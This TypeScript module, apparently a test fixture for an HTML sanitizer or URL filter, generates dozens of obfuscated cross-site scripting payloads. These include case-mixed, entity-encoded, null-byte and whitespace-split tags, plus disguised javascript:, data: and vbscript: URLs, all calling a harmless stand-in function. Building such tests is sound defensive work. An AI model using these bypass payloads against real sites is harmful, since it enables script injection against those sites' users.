/** Spelling variants (obfuscation) of tags and URLs in payloads. */

export const trapOrigin = 'https://trap.invalid';

export const run = 'top.hit(#)';

/** Spellings of a tag with which parsers have been bypassed. */
export function spelledTags(): string[] {
  const image = `img src=x onerror=${run}`;
  const script = `script>${run}</script`;
  return [
    `<IMG SRC=x ONERROR=${run}>`,
    `<iMg sRc=x oNeRrOr=${run}>`,
    `<img/src=x/onerror=${run}>`,
    `<img\nsrc=x\nonerror=${run}\n>`,
    `<img\tsrc=x\tonerror=${run}>`,
    `<img\fsrc=x\fonerror=${run}>`,
    `<img\rsrc=x\ronerror=${run}>`,
    `<img src=x onerror\n=\n${run}>`,
    `<img src=x onerror=\`${run}\`>`,
    `<img src=x onerror='${run}'>`,
    `<img src=x onerror="${run}"`,
    `<img src=x onerror=${run}//`,
    `<img src=x onerror=${entities('top.')}hit(#)>`,
    `<img src=x onerror=${hexEntities('top.')}hit(#)>`,
    `<img src=x onerror="top['h'+'it'](#)">`,
    `<img src=x onerror="\\u0074op.hit(#)">`,
    `<img src=x a="b" onerror=${run} onerror=1>`,
    `<img src="x" alt="a>b" onerror=${run}>`,
    `<img src='x'onerror=${run}>`,
    `<img """><script>${run}</script>">`,
    `<img src=x:x onerror&#61;${run} onerror=${run}>`,
    `<${image}`,
    `<<${image}>`,
    `<\u0000${image}>`,
    `<img\u0000 src=x onerror=${run}>`,
    `<img src=x on\u0000error=${run}>`,
    `\u00bc${image}\u00be<${image}>`,
    `\uff1c${image}\uff1e`,
    `%3C${image}%3E`,
    `&lt;${image}&gt;`,
    `&amp;lt;${image}&amp;gt;`,
    `\\u003c${image}\\u003e`,
    `\\x3c${image}\\x3e`,
    `<scr<script>ipt>${run}</scr</script>ipt>`,
    `<scr\u0000ipt>${run}</scr\u0000ipt>`,
    `<${script} >`,
    `<${script}\n>`,
    `<${script}/x>`,
    `<script/x>${run}</script>`,
    `<SCRIPT>${run}</SCRIPT>`,
    `<script\n>${run}</script\n>`,
    `<script x=">">${run}</script>`,
    `<script x='a"b'>${run}</script>`,
    `<\u017fcript>${run}</\u017fcript>`,
    `<ſvg onload=${run}>`,
    `<svg/onload=${run}>`,
    `<svg onload\u000c=${run}>`,
    `<x onfocus=${run} tabindex=1 autofocus>`,
    `<x-y onfocus=${run} tabindex=1 autofocus>`,
    `<a:b><img src=x onerror=${run}></a:b>`,
    `<?xml version="1.0"?><img src=x onerror=${run}>`,
    `<!doctype html><${image}>`,
    `<% ${run} %><${image}>`,
  ];
}

/** Spellings of a `javascript:` URL that are or were accepted. */
export function linksOf(use: (address: string) => readonly string[]): string[] {
  const addresses = [
    `javascript:${run}`,
    `JaVaScRiPt:${run}`,
    ` javascript:${run}`,
    `\u0001javascript:${run}`,
    `\u00a0javascript:${run}`,
    `\ufeffjavascript:${run}`,
    `java\tscript:${run}`,
    `java\nscript:${run}`,
    `java\rscript:${run}`,
    `javascript\t:${run}`,
    `java&Tab;script:${run}`,
    `java&NewLine;script:${run}`,
    `javascript&colon;${run}`,
    `java&#0000010script:${run}`,
    `java&#x0A;script:${run}`,
    `&#106;avascript:${run}`,
    `&#x6A avascript:${run}`,
    `${entities('javascript:')}${run}`,
    `javascript://x%0a${run}`,
    `javascript://https://x/%0d${run}`,
    `javascript:/*https://x/*/${run}`,
    `%6Aavascript:${run}`,
    `\\u006aavascript:${run}`,
    `javascript:\\u0074op.hit(#)`,
    `data:text/html,<script>${run}</script>`,
    `data:text/html;charset=utf-7,+ADw-script+AD4-${run}+ADw-/script+AD4-`,
    `DATA:text/html;base64,PHNjcmlwdD50b3AuaGl0KCk8L3NjcmlwdD4=`,
    `data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${run}'/>`,
    `data:application/xhtml+xml,<script xmlns='http://www.w3.org/1999/xhtml'>${run}</script>`,
    `vbscript:msgbox(#)`,
    `livescript:${run}`,
    `mocha:${run}`,
    `view-source:javascript:${run}`,
    `feed:javascript:${run}`,
    `jar:https://trap.invalid/!/#`,
    `filesystem:https://trap.invalid/#`,
    `about:blank#${run}`,
    `intent://x#Intent;S.browser_fallback_url=javascript:${run};end`,
  ];
  return addresses.flatMap((address) => [...use(address)]);
}

export function mixed(word: string): string {
  return Array.from(word, (letter, index) => (index % 2 === 0 ? letter.toUpperCase() : letter)).join('');
}

export function entities(text: string): string {
  return Array.from(text, (letter) => `&#${letter.charCodeAt(0)};`).join('');
}

function hexEntities(text: string): string {
  return Array.from(text, (letter) => `&#x${letter.charCodeAt(0).toString(16)};`).join('');
}
